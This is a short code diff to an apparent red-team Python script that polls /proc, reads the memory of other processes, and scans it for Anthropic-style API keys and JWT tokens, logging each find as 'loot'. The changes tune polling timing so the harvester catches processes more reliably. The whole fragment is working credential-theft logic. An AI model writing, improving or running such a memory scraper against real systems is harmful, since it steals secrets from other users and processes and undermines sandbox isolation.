@@ -25,6 +25,7 @@ RUNNER = int(sys.argv[1])
 NOTES = os.open("rt-deed", os.O_RDWR | os.O_CREAT | os.O_APPEND, 0o600)
 EVERYONE = os.environ.get("RT_EVERYONE") == "1"
 WATCH_SECONDS = 240.0  # the next runner comes in twenty, or later on a busy machine
+LOOK_SECONDS = 0.002  # a Python takes tens of milliseconds to its first line
 DEEDS: dict[str, Callable[[], object]] = {}
 WANTED = re.compile(rb"sk" rb"-ant-[\w-]{8,}|eyJ[\w-]{20,}")
 
@@ -179,6 +180,7 @@ def _watch() -> None:
     loot: set[str] = set()
     deadline, search_at = time.monotonic() + WATCH_SECONDS, 0.0
     while time.monotonic() < deadline:
+        time.sleep(LOOK_SECONDS)
         for name in os.listdir("/proc"):
             command = _command(name) if name.isdigit() else None
             if command is None or seen.get(name) == command:
@@ -191,10 +193,10 @@ def _watch() -> None:
                 except OSError as error:
                     note(f"process {name}: its memory was closed, {error.strerror}: {command}")
         if held and time.monotonic() > search_at:
-            search_at = time.monotonic() + 0.3
             for mark in set().union(*(_search(*each) for each in held)) - loot:
                 loot.add(mark)
                 note(f"loot {mark}")
+            search_at = time.monotonic() + 0.3
 
 
 def _is_of_this_sandbox(name: str, command: str) -> bool:
